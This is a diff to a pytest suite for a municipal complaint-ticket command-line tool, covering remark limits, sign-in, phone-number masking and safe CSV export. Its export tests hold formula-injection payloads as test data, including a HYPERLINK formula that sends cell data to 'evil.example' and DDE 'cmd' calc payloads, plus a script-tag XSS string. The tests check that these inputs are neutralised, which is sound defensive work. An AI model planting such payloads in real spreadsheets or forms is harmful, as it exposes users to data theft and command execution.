@@ -51,7 +51,10 @@ def test_update_refuses_a_transition_clearly_and_changes_nothing(cli, sqlite_wor
     assert result.returncode == 1 and "a reason is required" in result.stderr
     assert ws.tickets.get(number).status == REGISTERED and ws.outbox.for_ticket(number) == []
     assert cli("update", "SRN-999999", "--status", "assigned").returncode == 1
-    assert fake_rasa.triggers == []
+    result = cli("update", number, "--status", "assigned", "--remark", "r" * 1001)
+    assert result.returncode == 1
+    assert "the remark may have at most 1000 characters (this one has 1001)" in result.stderr
+    assert ws.tickets.get(number).status == REGISTERED and fake_rasa.triggers == []
 
 
 def test_update_when_rasa_is_down_keeps_the_change_and_queues_the_message(cli, sqlite_workspace, fake_rasa):
@@ -75,12 +78,12 @@ def test_accounts_need_a_real_password(cli, sqlite_workspace):
     result = cli("create-officer", "jal", "--department", "water_works", "--name", "Jal Officer",
                  stdin=PASSWORD + "\n")
     assert result.returncode == 0 and "created officer jal (water_works)" in result.stdout
-    assert ws.officers.authenticate("jal", PASSWORD).department == "water_works"
+    assert ws.officers.sign_in("jal", PASSWORD).officer.department == "water_works"
     assert cli("create-officer", "x", "--department", "police", stdin=PASSWORD + "\n").returncode == 2
     assert cli("set-password", "jal", stdin="a brand new password\n").returncode == 0
-    assert ws.officers.authenticate("jal", "a brand new password") is not None
+    assert ws.officers.sign_in("jal", "a brand new password").officer is not None
     assert cli("disable", "jal").returncode == 0
-    assert ws.officers.authenticate("jal", "a brand new password") is None
+    assert ws.officers.sign_in("jal", "a brand new password").officer is None
     listing = cli("officers").stdout
     assert "jal" in listing and "disabled" in listing and "admin" in listing
 
@@ -92,6 +95,7 @@ def test_list_show_overdue_and_export(cli, sqlite_workspace):
     assert ws.numbers["safai_new"] not in listing and "3 of 3" in listing
     shown = cli("show", ws.numbers["light_new"]).stdout
     assert '<script>alert("x")</script>' in shown and "mediaA1, expired" in shown
+    assert "91xxxxxx0001" in shown and "919800000001" not in shown
     overdue = cli("overdue").stdout
     assert "1  Street Lighting (street_lighting)" in overdue and "2  total" in overdue
 
@@ -103,4 +107,34 @@ def test_list_show_overdue_and_export(cli, sqlite_workspace):
     light = next(r for r in rows if r["number"] == ws.numbers["light_new"])
     assert light["description"] == ws.tickets.get(ws.numbers["light_new"]).description
     assert light["photo_count"] == "2" and light["department"] == "street_lighting"
-    assert "4 tickets exported" in result.stderr
+    assert light["citizen"] == "91xxxxxx0001" and "919800000001" not in result.stdout
+    assert light["latitude"] == "29.968"
+    assert "4 tickets exported (citizens' numbers masked)" in result.stderr
+
+
+@pytest.mark.parametrize("typed", [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+91 98000 00000", "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+])
+def test_export_neutralises_spreadsheet_formulas(cli, sqlite_workspace, typed, tmp_path):
+    ws = sqlite_workspace
+    number = ws.tickets.create_ticket("919811112222", "sewer", 7, typed, typed, "en",
+                                      latitude=-12.5, longitude=77.0).ticket.number
+    today = datetime.now(ZoneInfo(ws.city.timezone)).date().isoformat()
+    output = tmp_path / "tickets.csv"
+    assert cli("export", "--from", today, "--to", today, "--output", str(output)).returncode == 0
+    with output.open(newline="", encoding="utf-8") as handle:
+        [row] = [r for r in csv.DictReader(handle) if r["number"] == number]
+    assert row["description"] == "'" + typed and row["location_text"] == "'" + typed
+    assert row["latitude"] == "-12.5"  # numbers are not text: left alone
+    assert row["citizen"] == "91xxxxxx2222"
+
+
+def test_export_leaves_ordinary_text_alone():
+    from officer.export import spreadsheet_safe
+
+    for value in ("Court Road, near the temple", "बत्ती खराब", " =1", "1-2", "", "a=b"):
+        assert spreadsheet_safe(value) == value
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert spreadsheet_safe(start + "x") == "'" + start + "x"
+    assert spreadsheet_safe(-1) == -1 and spreadsheet_safe(None) is None
